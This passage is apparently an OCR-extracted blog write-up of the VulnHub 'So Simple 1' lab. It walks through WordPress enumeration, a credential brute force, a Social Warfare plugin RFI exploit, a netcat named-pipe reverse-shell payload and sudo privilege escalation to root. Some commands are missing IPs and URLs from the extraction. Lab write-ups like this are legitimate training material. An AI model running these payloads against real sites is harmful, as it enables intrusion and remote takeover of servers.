VulnHub: So Simple 1

So Simple 1 is a beginner level box created by @roelvb79 posted on VulnHub. This writeup will detail the steps that I have tried and used to get root access of the target host.


Before we can begin any type of scanning on the target, we need to find the IP address that has been allocated. We can use netdiscover for this

$ netdiscover -r -i eth0
Netdiscover to find target IP address

Now we can perform an nmap scan to identify open ports, and the software that is running behind those ports.

$ nmap -p- # See all ports
$ nmap -p 22,80 -A
Port scan
Nmap -A scan, enumerate OS, software versions, script scan and traceroute

Enumeration: HTTP

Solet’s navigate to the front page of the target. Interestingly, the only thing that we see is an image – seen below. When viewing the source code, there are no hyperlinks hidden in HTML comments or similar. So naturally, I’ll start a gobuster scan to try and find other directories on the web server.

Front page
$ gobuster dir \
-w /usr/share/wordlists/dirb/common.txt
Gobuster Scan

Alright, let’s navigate to the WordPress website – perhaps there is something here which we can exploit 😉

Default WordPress page

So it looks like the WordPress site is pretty default / has not really been setup so far. Nevertheless, we can see that there is an admin user here. We can use trusty wpscan to try and grab further information out of the WordPress installation, we might be able to find other usernames or vulnerable plugins which could bring us further.

$ wpscan --url --enumerate u
Identify Users

So we get 2 users:

  • admin
  • max

Perhaps we can bruteforce their logins. Let’s run it in the background, because it could takea while to get through the rockyou.txt. Perhaps something to consider is using a shorter wordlist… Anyways, we get some credentials! max:opensesame

$ wpscan --url -U max -P /usr/share/wordlists/rockyou.txt
Credential Bruteforce

So now let’s try to use these credentials to login to the /wp-admin interface. It is successful. Haha, nice little easter egg – the full name is Max Verstappen, a nice Formula 1 reference. It seems that Max isn’t an admin, so we cannot see the installed plugins straight away. Nevertheless, we can use wpscan to view the plugins also.

$ wpscan --url --enumerate p

We could have also used --enumerate vp to search vulnerable plugins, but in this case there was no output…

WordPress identified plugins

We get 2 plugins:

  • simple-cart-solution
  • social-warfare

Let’s use searchsploit to find potential exploits of the plugins – remember, wpscan says that these plugins are out of date.Use searchsploit to find exploits

So we weren’t really able to find an exploit for simple cart solution, however we found an exploit for Social Warfare with versions < 3.5.3. This is good news for us because wpscan identified the installed plugin as version 3.5.0.

Gaining the initial shell

Alright, we have an exploit to work with, hopefully we can get some sort of command execution. This is the exploit that we are using.

View the help menu

The exploit states that the vulnerable path is the one below – which is interesting, it seems that the swap_url parameter might be vulnerable to RFI. Let’s see what we can do.


There are a number of stages we must fulfill before we can capture the initial shell:

  1. Create the payload to verify code execution
  2. Host the exploit using Python SimpleHTTPServer
  3. Create a reverse shell payload
  4. Trigger the reverse shell using the exploit
  5. Capture the reverse shell.

To verify the code execution we can either read the /etc/passwd file by using cat or we can ping ourselves capturing the requests using tcpdump. Let’s do the latter in this case.

Let’s setup the ping payload. We need to remember to use php calls such as system() to execute code. Then we can trigger the exploit and capture the ping requests as shown in the screenshot below.

# ping.txt
<pre> system('ping -c 2') </pre>
python -t <TARGET> --payload-uri=<PAYLOAD>
Verify code execution by ping requests

Nice! We have code execution, so we should be able to execute code which will allow us to get a reverse shell.

# reverse shell
<pre> system('rm -f /tmp/frosty; mknod /tmp/frosty p; /bin/sh 0</tmp/frosty | nc 1234 1>/tmp/frosty') </pre>

# Trigger exploit
python -t <TARGET> --payload-uri=<PAYLOAD>

In the screenshot below we show us hosting the exploit with Python SimpleHTTPServer on the top left pane. On the bottom pane, we trigger the exploit using the command seen above. Finally, on the top right pane we see the reverse shell being captured with nc. Nice!

Capturing the reverse shell

Alright, let’s see what we can find. Let’s check /var/www/html in case we missed something there. We see that there is a mybackup.txt file, which is interesting. But I haven’t been able to figure out what the contents of this file could be. Perhaps it’s a rabbit hole.

View mybackup.txt

Upon checking the /home directory, it is seen that there are two users on this host; max and steven

See users on system

Privilege EscalationWe know that max is the first user to pivot to because he has user.txt where steven has user2.txt

Escalating to max user

When checking Max’s home directory, we see that there is another directory this, followed by more directories. In the end, we find that we are in a rabbit hole.

this is maybe a way to a:
- password
- private_key
- rabbit_hole
rabbit hole

Anyways, the private key directory gives an interesting idea – so let’s go check if there are any private keys which we can read. It seems that we do have access to read the .ssh folder and likewisethe id_rsa key.

Find id_rsa
$ ssh -i ./id_rsa max@

Nice! We got access as Max and thereby also user.txt!


It’s always worth checking what a user has access to run, checked using sudo -l. As seen in the screenshot below, max is able to execute the /usr/sbin/service binary as the steven user without a password. Thankfully for us, this is a GTFObin

sudo -l for max

Escalataing to Steven

We can use the GTFObin page and we see that service can be used to get a shell.As we can execute it as the steven user, we get a shell as steven

Escalate to steven

Nice! Let’s check what the steven user can execute, similar to what we did with the max user.

sudo -l for steven

Privilege Escalation to root

Interesting. We can execute the server-health shell script as root user without any password. Let’s go and take a look at the script, perhaps there is a vulnerability in the code which we can exploit.


Double interesting! There is no /opt/tools directory, and therefore also no script! This means that we can just create our own script to get root. There are a number of things we could do here, I think that the easiest isto copy the bash binary to /opt/tools/ and execute it as root. Let’s try it!

And it worked! Awesome

Closing Thoughts

This was a pretty fun box! Nice and easy, and good to learn for a beginner. We had to practice anumber of enumeration skills to get to the root

  • Web enumeration to find the /wordpress directory
  • Using wpscan to find the vulnerable plugin which allowed us to get RCE
  • Exploiting incorrect permissions on the id_rsa key file
  • Making use of gtfobins, allowing us to pivot to a second user
  • Creating our own file which we could execute as root without a password

Leave a Reply

Your email address will not be published. Required fields are marked *

This site uses Akismet toreduce spam. Learn how your comment data is processed.